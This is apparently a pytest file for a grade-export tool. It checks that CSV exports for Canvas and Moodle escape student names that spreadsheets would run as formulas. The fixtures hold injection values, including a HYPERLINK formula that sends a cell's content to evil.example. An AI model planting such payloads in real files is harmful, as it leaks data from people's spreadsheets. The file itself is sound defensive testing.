"""No cell of a file of grades runs as a formula, and a system's own cells come back as they were."""

import pytest
from nbgrader.api import Gradebook

from tests.tools.exports import export, rows, told
from tests.tools.instructor import UNIT

EVIL = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture
def formulas(late):
    """A class in which students chose names that a spreadsheet would run."""
    with Gradebook(f"sqlite:///{late / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student("ada", first_name=EVIL, last_name="+1+1")
        gradebook.update_or_create_student("emil", first_name="-2", last_name="@SUM(A1)", email="=1+1|x@uni.example")
        gradebook.update_or_create_student("hugo", first_name="\t=1", last_name="a;=1+1", email="-hugo+x@uni.example")
    return late


def test_no_cell_that_a_spreadsheet_would_run(formulas):
    for to in ("csv", "canvas", "moodle"):
        result = export(formulas, UNIT, "--to", to)
        for cell in (cell for row in rows(formulas / f"grades-{to}.csv") for cell in row):
            assert not cell.lstrip().startswith(("=", "+", "@")), (to, cell)
            assert not (cell.lstrip().startswith("-") and "(" in cell), (to, cell)
            assert ";=" not in cell
    names = {row[2]: row[:2] for row in rows(formulas / "grades-moodle.csv")}
    assert names["ada"] == [f"'{EVIL}", "'+1+1"]
    # what Moodle finds people by stays as it is, where nothing could be called by it
    assert {row[3] for row in rows(formulas / "grades-moodle.csv")} >= {"-hugo+x@uni.example", "'=1+1|x@uni.example"}
    assert "The id, number or address of 1 student (emil) is written with an apostrophe" in told(result)


def test_a_systems_own_export_comes_back_as_it_was_but_for_formulas(late, tmp_path):
    roster = tmp_path / "canvas.csv"
    text = "Student,ID,SIS User ID,SIS Login ID,Section\n"
    text += '"=""=1, Ada""",101,-S1,ada,"M, 1"\n"@SUM(1), Béla",102,+49 12,bela,M\n'
    roster.write_text(text, encoding="utf-8")
    export(late, UNIT, "--to", "canvas", "--roster", roster)
    assert [row[:5] for row in rows(late / "grades-canvas.csv")[2:]] == [
        ['="=1, Ada"', "101", "-S1", "ada", "M, 1"],  # as Canvas itself writes what begins with =
        ["'@SUM(1), Béla", "102", "+49 12", "bela", "M"],
    ]
    roster = tmp_path / "moodle.csv"
    roster.write_text("Vorname;Nachname;ID-Nummer;E-Mail-Adresse;Gruppe\n=1;Ö;-7;ada@uni.example;A\n", encoding="utf-8")
    export(late, UNIT, "--to", "moodle", "--roster", roster)
    header, line = rows(late / "grades-moodle.csv")
    assert header[:4] == ["Vorname", "Nachname", "ID-Nummer", "E-Mail-Adresse"]
    assert line == ["'=1", "Ö", "-7", "ada@uni.example", "12.00000"]
